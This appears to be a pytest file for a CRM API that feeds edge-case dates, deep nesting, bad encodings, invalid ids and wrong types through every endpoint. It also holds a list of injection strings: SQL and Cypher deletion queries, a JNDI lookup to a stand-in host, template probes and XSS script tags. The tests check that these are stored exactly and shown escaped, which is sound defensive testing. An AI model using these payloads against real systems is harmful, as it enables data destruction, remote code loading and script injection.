"""Hostile input through every entry point, on both stores.

Each class of hostile input (dates at the calendar's edges, deep nesting, large
fields, broken quotes, wrong encodings, ids outside the grammar, wrong types)
is sent through the API's object endpoints, its batch, its imports (JSON lines
and Salesforce CSV) and its query parameters, on SQLite and on the real Neo4j.
Each must be refused with a 4xx problem document (never a 5xx) that names what
is wrong, and the store's fingerprint (every row, interval and change-log
entry: :func:`graphcrm.store.dump.fingerprint`) must be the same afterwards.

Text that is hostile only to a careless program (Turkish, right-to-left,
zero-width characters, SQL, Cypher, template and markup injection strings) must
be accepted and read back byte for byte, and a page that shows it must show it
as text.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from pydantic import SecretStr

from api.app import create_app
from graphcrm.auth import KeyStore, Scope
from graphcrm.config import Settings
from graphcrm.store import GraphStore, open_store
from graphcrm.store.dump import fingerprint
from graphcrm.store.maintenance import maintenance
from tests.api.seed import START, seed_batches
from tests.neo4j.support import fresh_store

PROBLEM = "application/problem+json"


@dataclass
class Api:
    client: TestClient
    store: GraphStore
    key: str

    @property
    def h(self) -> dict[str, str]:
        return {"X-API-Key": self.key}

    def print(self) -> str:
        return fingerprint(maintenance(self.store).dump())


@pytest.fixture(params=["sqlite", pytest.param("neo4j", marks=pytest.mark.neo4j)])
def api(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Api]:
    if request.param == "sqlite":
        url = f"sqlite://{tmp_path / 'hostile.sqlite3'}"
        store = open_store(url)
    else:
        url = request.getfixturevalue("neo4j_uri")
        store = fresh_store(url)
    for batch in seed_batches(datetime.now(UTC)):
        store.apply(batch, actor="seed", at=START)
    key = KeyStore(store).create("hostile", [Scope.READ, Scope.WRITE, Scope.ADMIN], ["*"]).secret
    settings = Settings.model_validate(
        {"store": SecretStr(url), "keys_path": str(tmp_path / "keys.sqlite3")}
    )
    try:
        with TestClient(create_app(settings), raise_server_exceptions=False) as client:
            yield Api(client, store, key)
    finally:
        store.close()


def refused(api: Api, method: str, url: str, **kwargs: Any) -> dict[str, Any]:
    """Send a request that must be refused; check the refusal and that nothing changed
    (reads change nothing by construction: only writes are fingerprinted)."""
    before = api.print() if method != "GET" else ""
    headers = {**api.h, **kwargs.pop("headers", {})}
    r = api.client.request(method, url, headers=headers, **kwargs)
    assert 400 <= r.status_code < 500, (r.status_code, r.text[:500])
    assert r.headers["content-type"].startswith(PROBLEM), r.headers["content-type"]
    problem: dict[str, Any] = r.json()
    if r.status_code == 422:
        assert problem["errors"], problem
        assert all(e["field"] and e["message"] for e in problem["errors"]), problem
    if method != "GET":
        assert api.print() == before, f"{method} {url} changed the store"
    return problem


def account(aid: str, **fields: Any) -> dict[str, Any]:
    return {"id": aid, "name": "Hostile A.Ş.", "territory": "Marmara", **fields}


# --- dates at the edges -----------------------------------------------------------------


EDGE_DATES = [
    "0001-01-01",
    "0001-01-02",
    "1899-12-31",
    "9999-12-31",
    "2026-02-30",
    "2026-13-01",
    "99999-01-01",
    "2026-01-01T25:00:00Z",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "-2026-01-01",
    "NaN",
]


@pytest.mark.parametrize("when", EDGE_DATES)
def test_dates_at_the_edges_are_refused_by_name(api: Api, when: str) -> None:
    for url in (
        "/v1/accounts/M1/health",
        "/v1/deals/M1-D1/risk",
        "/v1/deals/M1-D1/win",
        "/v1/accounts/M1/orgchart",
        "/v1/exports",
    ):
        problem = refused(api, "GET", url, params={"as_of": when})
        assert [e["field"] for e in problem["errors"]] == ["query.as_of"], (url, problem)
    body = {
        "id": "M1-T-edge",
        "account_id": "M1",
        "at": when,
        "kind": "call",
        "direction": "inbound",
        "contact_ids": ["M1-C1"],
    }
    problem = refused(api, "POST", "/v1/touchpoints", json=body)
    assert any(e["field"].endswith("at") for e in problem["errors"]), problem


# --- nesting, sizes ------------------------------------------------------------------------


def test_deep_nesting_is_refused(api: Api) -> None:
    deep = "[" * 100_000 + "]" * 100_000
    for url in ("/v1/batch", "/v1/accounts"):
        refused(api, "POST", url, content=deep, headers={"Content-Type": "application/json"})
    refused(
        api,
        "POST",
        "/v1/imports",
        data={"format": "json", "territory": "Marmara", "all_or_nothing": "true"},
        files={"files": ("deep.jsonl", deep.encode(), "application/octet-stream")},
    )


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("name", "Ş" * 301),
        ("name", ""),
        ("sector", "x" * 201),
        ("country", "türkiye"),
    ],
)
def test_oversized_and_malformed_fields_are_named(api: Api, field: str, value: str) -> None:
    problem = refused(api, "POST", "/v1/accounts", json=account("H-size", **{field: value}))
    assert [e["field"] for e in problem["errors"]] == [f"body.{field}"], problem


def test_a_huge_body_is_refused_before_it_is_read(api: Api) -> None:
    huge = {"accounts": [account(f"H-{i}", name="x" * 300) for i in range(20_000)]}
    problem = refused(api, "POST", "/v1/batch", json=huge)
    assert problem["status"] == 413


# --- quotes and encodings in imports ------------------------------------------------------


def test_a_csv_with_an_unterminated_quote_names_the_line(api: Api) -> None:
    csv = b'Id,Name\r\nQ1,"never closed\r\nQ2,x\r\n'
    problem = refused(
        api,
        "POST",
        "/v1/imports",
        data={"format": "salesforce", "territory": "Marmara", "all_or_nothing": "true"},
        files={"files": ("Account.csv", csv, "text/csv")},
    )
    assert "Account.csv" in json.dumps(problem, ensure_ascii=False), problem


@pytest.mark.parametrize(
    "payload",
    [
        "Id,Name\r\nQ1,İstanbul Şube\r\n".encode("utf-16"),
        "Id,Name\r\nQ1,Ağaç\r\n".encode("latin-1", "replace") + b"\xff\xfe\x80",
    ],
    ids=["utf-16", "invalid-utf-8"],
)
def test_a_csv_that_is_not_utf8_is_refused_by_file(api: Api, payload: bytes) -> None:
    problem = refused(
        api,
        "POST",
        "/v1/imports",
        data={"format": "salesforce", "territory": "Marmara", "all_or_nothing": "true"},
        files={"files": ("Account.csv", payload, "text/csv")},
    )
    assert "Account.csv" in json.dumps(problem, ensure_ascii=False), problem


def test_a_lone_surrogate_is_refused(api: Api) -> None:
    raw = b'{"id": "H-s", "name": "bad \\ud800 text", "territory": "Marmara"}'
    refused(api, "POST", "/v1/accounts", content=raw, headers={"Content-Type": "application/json"})


# --- ids and types -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "bad_id",
    ["a/b", "a\\b", ".", "..", " lead", "trail ", "nul\x00", "rtl\u202eoverride", "x" * 129, ""],
)
def test_ids_outside_the_grammar_are_refused_everywhere(api: Api, bad_id: str) -> None:
    problem = refused(api, "POST", "/v1/accounts", json=account(bad_id))
    assert [e["field"] for e in problem["errors"]] == ["body.id"], problem
    refused(api, "POST", "/v1/batch", json={"accounts": [account(bad_id)]})
    line = json.dumps({"accounts": [account(bad_id)]}) + "\n"  # a ChangeSet per line
    refused(
        api,
        "POST",
        "/v1/imports",
        data={"format": "json", "territory": "Marmara", "all_or_nothing": "true"},
        files={"files": ("rows.jsonl", line.encode(), "application/octet-stream")},
    )


@pytest.mark.parametrize(
    ("url", "body", "field"),
    [
        (
            "/v1/deal-roles",
            {"deal_id": "M1-D1", "contact_id": "M1-C2", "roles": ["champion"], "stance": True},
            "body.stance",
        ),
        (
            "/v1/influences",
            {
                "influencer_id": "M1-C2",
                "influenced_id": "M1-C3",
                "kind": "advises",
                "strength": False,
            },
            "body.strength",
        ),
        (
            "/v1/reporting-lines",
            {"contact_id": "M1-C6", "manager_id": "M1-C2", "valid_from": 0},
            "body.valid_from",
        ),
        ("/v1/deals", {"id": "H-D", "account_id": "M1", "name": "x", "amount": "1e9"}, None),
        (
            "/v1/deals",
            {"id": "H-D", "account_id": "M1", "name": "x", "expected_close": 0},
            "body.expected_close",
        ),
    ],
)
def test_wrong_types_are_refused_not_coerced(
    api: Api, url: str, body: dict[str, Any], field: str | None
) -> None:
    problem = refused(api, "POST", url, json=body)
    if field is not None:
        assert field in [e["field"] for e in problem["errors"]], problem


# --- hostile only to a careless program: accepted, byte for byte ----------------------------

TEXTS = [
    "İĞÜŞÖÇ ığüşöç — Çağrı Işık",
    "שלום عربي mixed עם English",
    "zero\u200bwidth\u200djoiner\ufefftext",
    "'); DROP TABLE accounts;--",
    "MATCH (n) DETACH DELETE n //",
    "${jndi:ldap://example.invalid/a} {{7*7}} <%= 7*7 %>",
    '<script>alert("x")</script><img src=x onerror=alert(1)>',
    "back\\slash \"quotes\" 'single' `tick`",
]


@pytest.mark.parametrize("text", TEXTS)
def test_hostile_text_is_stored_and_read_back_exactly(api: Api, text: str) -> None:
    r = api.client.post("/v1/accounts", json=account("H-text", name=text), headers=api.h)
    assert r.status_code == 201, r.text
    got = api.client.get("/v1/accounts/H-text", headers=api.h)
    assert got.json()["account"]["name"] == text
    contact = {"id": "H-text-C1", "account_id": "H-text", "name": text, "title": text}
    r = api.client.post("/v1/contacts", json=contact, headers=api.h)
    assert r.status_code == 201, r.text
    back = api.client.get("/v1/contacts/H-text-C1", headers=api.h).json()
    assert (back["name"], back["title"]) == (text, text)
    exported = api.client.get(
        "/v1/exports", params={"format": "json", "account_id": "H-text"}, headers=api.h
    )
    assert exported.status_code == 200
    batches = [json.loads(line) for line in exported.text.splitlines() if line]
    assert text in [a["name"] for b in batches for a in b.get("accounts", [])]
    assert text in [c["title"] for b in batches for c in b.get("contacts", [])]
    page = api.client.get("/pages/accounts/H-text", headers=api.h)
    assert page.status_code == 200
    # shown as text: escaped in the markup, \u003c in the embedded JSON; never a tag
    assert "<script>alert" not in page.text
    assert "<img src=x" not in page.text
